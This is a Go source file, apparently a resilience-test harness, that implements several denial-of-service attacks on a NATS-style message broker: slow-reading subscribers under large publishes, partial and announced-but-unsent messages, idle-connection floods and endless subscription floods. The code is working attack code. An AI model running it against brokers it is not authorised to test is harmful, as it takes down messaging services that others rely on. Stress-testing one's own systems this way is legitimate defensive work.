package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// attacks are what somebody can do who may connect. Each goes on until ctx ends, and
// connects again when it is cut off.
var attacks = map[string]func(ctx context.Context, addr string){
	// Subscribe, never read, and have large messages published.
	"unread": func(ctx context.Context, addr string) { unread(ctx, addr, "flood.>", "flood.1") },
	// The same, looking like a client that awaits replies.
	"replies": func(ctx context.Context, addr string) {
		unread(ctx, addr, "mcollective.reply.evil.ABCDEFGH", "mcollective.reply.evil.ABCDEFGH")
	},
	// Send all of a large message but its end.
	"partial": func(ctx context.Context, addr string) {
		many(ctx, *connect*10, addr, func(c net.Conn) {
			size := largest(c)
			fmt.Fprintf(c, "PUB x %d\r\n", size)
			junk(c, size-1)
			wait(ctx, c)
		})
	},
	// Announce a large message and send nothing of it.
	"announce": func(ctx context.Context, addr string) {
		many(ctx, *connect*50, addr, func(c net.Conn) {
			fmt.Fprintf(c, "PUB x %d\r\n1", largest(c))
			wait(ctx, c)
		})
	},
	// Connect and say nothing.
	"silent": func(ctx context.Context, addr string) {
		var all sync.WaitGroup
		for range *crowdOf {
			all.Go(func() {
				for ctx.Err() == nil {
					if c, err := dial(ctx, addr); err == nil {
						wait(ctx, c)
						c.Close()
					}
					pause(ctx)
				}
			})
			if ctx.Err() != nil {
				break
			}
		}
		all.Wait()
	},
	// Subscribe to everything one can think of.
	"subs": func(ctx context.Context, addr string) { subscribe(ctx, addr, strings.Repeat("x", 1000)) },
	// The same with subjects of many parts, each of which is a level of the broker's tree.
	"parts": func(ctx context.Context, addr string) {
		subscribe(ctx, addr, strings.Repeat("x.", 20)+"x")
	},
}

// subscribe has connections subscribe without end to subjects that begin differently
// and end alike.
func subscribe(ctx context.Context, addr, end string) {
	many(ctx, *connect*5, addr, func(c net.Conn) {
		go io.Copy(io.Discard, c)
		w := bufio.NewWriterSize(c, 1<<16)
		for i := 0; ctx.Err() == nil; i++ {
			if _, err := fmt.Fprintf(w, "SUB %p-%d.%s %d\r\n", c, i, end, i); err != nil {
				return
			}
		}
	})
}

const message = 4<<20 - 1024

// largest returns the largest message that the broker takes, as its first line says.
func largest(c net.Conn) int {
	text, _ := bufio.NewReader(c).ReadString('\n')
	var info struct {
		MaxPayload int `json:"max_payload"`
	}
	_ = json.Unmarshal([]byte(strings.TrimPrefix(text, "INFO ")), &info)
	return info.MaxPayload
}

func unread(ctx context.Context, addr, from, to string) {
	var both sync.WaitGroup
	both.Go(func() {
		many(ctx, *connect, addr, func(c net.Conn) {
			fmt.Fprintf(c, "SUB %s 1\r\n", from)
			// Only the kernel takes what comes.
			if t, ok := c.(*net.TCPConn); ok {
				_ = t.SetReadBuffer(4096)
			}
			for ctx.Err() == nil {
				if _, err := c.Write([]byte("PING\r\n")); err != nil {
					return
				}
				pause(ctx)
			}
		})
	})
	both.Go(func() {
		many(ctx, 1, addr, func(c net.Conn) {
			go io.Copy(io.Discard, c)
			for ctx.Err() == nil {
				if _, err := fmt.Fprintf(c, "PUB %s %d\r\n", to, message); err != nil || junk(c, message) != nil {
					return
				}
				if _, err := io.WriteString(c, "\r\n"); err != nil {
					return
				}
			}
		})
	})
	both.Wait()
}

// many has n connections do something, again and again.
func many(ctx context.Context, n int, addr string, do func(net.Conn)) {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				if c, err := dial(ctx, addr); err == nil {
					stop := context.AfterFunc(ctx, func() { c.Close() })
					if _, err := io.WriteString(c, `CONNECT {"verbose":false,"pedantic":false,"protocol":1}`+"\r\n"); err == nil {
						do(c)
					}
					stop()
					c.Close()
				}
				pause(ctx)
			}
		})
	}
	all.Wait()
}

func dial(ctx context.Context, addr string) (net.Conn, error) {
	return new(net.Dialer).DialContext(ctx, "tcp", addr)
}

// wait returns when the connection or the attack has ended.
func wait(ctx context.Context, c net.Conn) {
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	io.Copy(io.Discard, c)
}

func pause(ctx context.Context) {
	select {
	case <-time.After(50 * time.Millisecond):
	case <-ctx.Done():
	}
}

var zeros [64 << 10]byte

// A line is what the attackers have together, as if they were elsewhere: without a
// limit they would take the processors from the broker on their own machine.
var line struct {
	sync.Mutex
	free time.Time
}

func junk(c net.Conn, n int) error {
	for n > 0 {
		size := min(n, len(zeros))
		line.Lock()
		now := time.Now()
		if line.free.Before(now) {
			line.free = now
		}
		line.free = line.free.Add(time.Duration(float64(size) / float64(*rate<<20) * float64(time.Second)))
		wait := line.free.Sub(now)
		line.Unlock()
		time.Sleep(wait)
		m, err := c.Write(zeros[:size])
		if err != nil {
			return err
		}
		n -= m
	}
	return nil
}
